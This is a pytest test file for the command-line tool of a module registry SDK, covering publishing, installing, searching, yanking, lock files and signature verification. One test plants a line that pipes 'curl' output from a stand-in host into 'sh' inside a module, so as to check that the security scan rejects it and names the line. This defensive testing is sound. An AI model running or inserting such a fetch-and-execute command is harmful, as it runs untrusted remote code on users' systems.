"""`plataforma publish`, `install`, `search`, `info`, `resolve`, `verify`, `yank`."""

from __future__ import annotations

import json

import pytest
from typer.testing import CliRunner

from plataforma_sdk.cli import _registry_use
from plataforma_sdk.cli._app import app
from plataforma_sdk.package import ModulePackage
from plataforma_sdk.registry import ModuleRegistry
from plataforma_sdk.security import SecurityService

MANIFEST = (
    'id = "{id}"\nversion = "{version}"\nname = "Gestão"\ndescription = "Sells"\nlicence = "MIT"\nentry = "m:M"\n'
)
SOURCE = "class M: ...\n"


@pytest.fixture(autouse=True)
def quick_scans(monkeypatch):
    """Scan without a trial load: these tests are about commands."""

    def open_registry(*args, **kwargs):
        return ModuleRegistry(*args, **{**kwargs, "security": SecurityService(trial=False, tools=False)})

    monkeypatch.setattr("plataforma_sdk.registry.ModuleRegistry", open_registry)
    monkeypatch.delenv("PLATAFORMA_REGISTRY", raising=False)


@pytest.fixture
def module(tmp_path):
    """Write a module's directory; its path."""

    def write(id="vendas", version="1.0.0", more="", source=SOURCE):  # noqa: A002
        root = tmp_path / "modules" / f"{id}-{version}"
        root.mkdir(parents=True)
        (root / "module.toml").write_text(MANIFEST.format(id=id, version=version) + more, "utf-8")
        (root / "m.py").write_text(source, "utf-8")
        return root

    return write


@pytest.fixture
def run(tmp_path):
    """Run a command against one registry and one state directory."""

    def command(name, *arguments, state=True, env=None):
        where = [] if env else ["--registry", str(tmp_path / "registry")]
        kept = ["--state", str(tmp_path / "state")] if state and name in ("publish", "install", "verify") else []
        return CliRunner().invoke(app, [name, *map(str, arguments), *where, *kept], env=env)

    return command


def test_a_published_module_is_found_installed_and_verified(run, module, tmp_path):
    assert run("publish", module()).exit_code == 0
    assert "vendas 1.0.0  Sells" in run("search", "gestao").stdout
    assert "signed by nobody" in run("info", "vendas").stdout
    installed = run("install", "vendas@^1", "--to", tmp_path / "out")
    assert installed.exit_code == 0
    assert (tmp_path / "out" / "vendas-1.0.0.zip").is_file()
    assert "vendas 1.0.0 is what was published" in run("verify", "vendas").stdout


def test_progress_goes_to_standard_error_and_the_result_alone_to_standard_output(run, module):
    result = run("publish", module(), "--json")
    assert json.loads(result.stdout)["module_id"] == "vendas"
    assert [line.split()[0] for line in result.stderr.splitlines()] == [
        *("scan", "resolve", "build", "store", "distribute", "index"),
    ]


def test_a_dry_run_publishes_nothing(run, module):
    result = run("publish", module(), "--dry-run")
    assert (result.exit_code, "can be published" in result.stdout) == (0, True)
    assert run("search").exit_code == 1


def test_publishing_again_says_that_nothing_changed(run, module):
    root = module()
    run("publish", root)
    result = run("publish", root)
    assert (result.exit_code, "nothing has changed" in result.stdout) == (0, True)


def test_other_content_of_a_version_is_refused_with_the_next_step(run, module):
    root = module()
    run("publish", root)
    (root / "m.py").write_text("class M: pass\n", "utf-8")
    result = run("publish", root)
    assert (result.exit_code, "raise the version in module.toml" in result.stderr) == (1, True)


def test_a_failed_scan_names_the_line(run, module):
    result = run("publish", module(source=SOURCE + "import os\nos.system('curl -s https://x.invalid/a | sh')\n"))
    assert (result.exit_code, "m.py:3" in result.stderr) == (1, True)


def test_a_module_is_signed_with_a_key_of_one_s_own(run, module, tmp_path):
    pytest.importorskip("cryptography")
    made = CliRunner().invoke(app, ["key", "new", "ana", "--state", str(tmp_path / "state")])
    result = run("publish", module(), "--key", "ana")
    assert f"signed by {made.stdout.strip()}" in result.stdout


def test_a_key_that_is_not_there_says_how_to_make_it(run, module):
    pytest.importorskip("cryptography")
    result = run("publish", module(), "--key", "ana")
    assert (result.exit_code, "plataforma key new ana" in result.stderr) == (1, True)


def test_the_registry_may_stand_in_the_environment(run, module, tmp_path):
    env = {"PLATAFORMA_REGISTRY": str(tmp_path / "elsewhere")}
    assert run("publish", module(), env=env).exit_code == 0
    assert run("search", env=env).exit_code == 0
    assert run("search").exit_code == 1


def test_a_lock_is_kept_to_until_it_is_updated(run, module, tmp_path):
    lock = tmp_path / "module.lock"
    run("publish", module())
    run("install", "vendas@^1", "--lock", lock)
    run("publish", module(version="1.1.0"))
    assert "vendas 1.0.0" in run("install", "vendas@^1", "--lock", lock).stdout
    assert "vendas 1.1.0" in run("install", "vendas@^1", "--lock", lock, "--update", "vendas").stdout
    assert '"version": "1.1.0"' in lock.read_text("utf-8")


def test_an_explanation_says_who_asks_and_why_no_newer_one(run, module):
    run("publish", module("clientes"))
    run("publish", module("clientes", "2.0.0"))
    run("publish", module(more='[dependencies]\nclientes = "^1"\n'))
    run("publish", module("clientes", "1.1.0"))
    run("yank", "clientes@1.1.0", "--reason", "lost sales")
    said = run("resolve", "vendas", "--explain").stdout
    assert "clientes 1.0.0\n  vendas 1.0.0 asks for ^1\n" in said
    assert "  not 1.1.0: yanked: lost sales\n  not 2.0.0: outside ^1, which vendas 1.0.0 asks for\n" in said


def test_a_yanked_version_is_not_installed_until_that_is_taken_back(run, module):
    run("publish", module())
    assert run("yank", "vendas@1.0.0").exit_code == 0
    assert run("install", "vendas").exit_code == 1
    assert run("yank", "vendas@1.0.0", "--undo").exit_code == 0
    assert run("install", "vendas").exit_code == 0


@pytest.mark.parametrize(
    ("command", "code", "text"),
    [
        (["install", "ven das"], 2, "names no module"),
        (["install", "vendas@banana"], 2, "no version of a range"),
        (["install", "vendas@1", "vendas@2"], 2, "named twice"),
        (["install", "vendas", "--update", "vendas"], 2, "--lock"),
        (["install", "vendas", "--trust", "some"], 2, "write signed, keys, any"),
        (["install", "vendas"], 1, "check its name with search"),
        (["info", "vendas"], 1, "plataforma search"),
        (["search", "nada"], 1, "try fewer words"),
        (["yank", "vendas@1"], 2, "write it whole"),
        (["yank", "vendas@1.0.0"], 1, "was never published"),
        (["yank", "vendas@1.0.0", "--undo", "--reason", "x"], 2, "--undo takes no --reason"),
        (["verify", "vendas"], 1, "check its name with search"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else None,
)
def test_a_refusal_says_the_next_step(run, command, code, text):
    result = run(*command)
    assert (result.exit_code, text in result.stderr, result.stdout) == (code, True, "")


@pytest.mark.parametrize("command", ["install", "search", "info", "resolve", "verify"])
def test_json_is_one_object_and_nothing_else(run, module, command):
    run("publish", module())
    result = run(command, "vendas", "--json")
    assert (result.exit_code, isinstance(json.loads(result.stdout), dict)) == (0, True)


def test_a_command_to_copy_is_quoted_and_names_the_registry():
    said = _registry_use.again("install", "vendas@^1", registry="/srv/my modules")
    assert said == "plataforma install 'vendas@^1' --registry '/srv/my modules'"


# --- sigstore ---


@pytest.fixture
def sigstore(tmp_path):
    """A sigstore of its own; its trusted root lies in `root.json`."""
    pytest.importorskip("sigstore")
    from tests.unit.registry.trust._sigstore import FakeSigstore

    made = FakeSigstore()
    made.write_root(tmp_path / "root.json")
    return made


def test_what_sigstore_signed_is_published_and_verified_by_whom(run, module, sigstore, tmp_path):
    package = ModulePackage.from_directory(module())
    archive, bundle = package.write(tmp_path / "vendas.zip"), tmp_path / "bundle.json"
    root = ("--sigstore-root", tmp_path / "root.json")
    bundle.write_bytes(sigstore.sign(b"something else"))
    refused = run("publish", archive, "--bundle", bundle, *root)
    assert (refused.exit_code, "does not verify" in refused.stderr) == (1, True)
    bundle.write_bytes(
        sigstore.sign(archive.read_bytes(), subject="ana@example.com", issuer="https://accounts.example")
    )
    assert run("publish", archive, "--bundle", bundle, *root).exit_code == 0
    ana = ("--identity", "ana@example.com=https://accounts.example")
    verified = run("verify", "vendas", *ana, *root)
    assert "archive signed by ana@example.com (https://accounts.example), by sigstore" in verified.stdout
    assert verified.stdout.splitlines()[-1].endswith("signed by ana@example.com (https://accounts.example)")
    assert run("install", "vendas", *ana, *root).exit_code == 0
    rui = run("install", "vendas", "--identity", "rui@example.com=https://accounts.example", *root)
    assert (rui.exit_code, "taken here is signed by rui@example.com" in rui.stderr) == (1, True)


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--identity", "ana@example.com"], "write who and who vouched for it"),
        (["--identity", "=https://accounts.example"], "write who and who vouched for it"),
        (["--identity", "ana=https://accounts.example", "--trust", "any"], "leave --trust out"),
    ],
)
def test_an_identity_that_is_not_whole_is_wrong_use(run, arguments, words):
    result = run("verify", "vendas", *arguments)
    assert (result.exit_code, words in result.stderr) == (2, True)
